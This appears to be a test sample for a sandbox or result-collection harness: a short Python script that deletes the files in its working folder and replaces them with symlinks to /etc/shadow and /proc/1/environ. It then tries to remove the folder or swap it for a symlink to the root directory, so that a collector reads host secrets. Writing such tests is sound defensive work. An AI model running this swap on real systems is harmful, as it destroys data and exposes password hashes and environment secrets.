# Replaces its own work folder and program by links to the host's files, for whoever collects afterwards.
# row: F3 F4
# expect: ok
# prints: swapped
import os
import shutil

work = os.getcwd()
for name in os.listdir(work):
    try:
        os.remove(name)
    except OSError:
        pass
    for target in ["/etc/shadow", "/proc/1/environ"]:
        try:
            os.symlink(target, name)
        except OSError:
            pass
for swap in [lambda: os.rename(work, work + "-moved"), lambda: shutil.rmtree(work), lambda: os.symlink("/", work)]:
    try:
        swap()
    except OSError:
        pass
os.mkfifo("/tmp/result")
print("swapped")
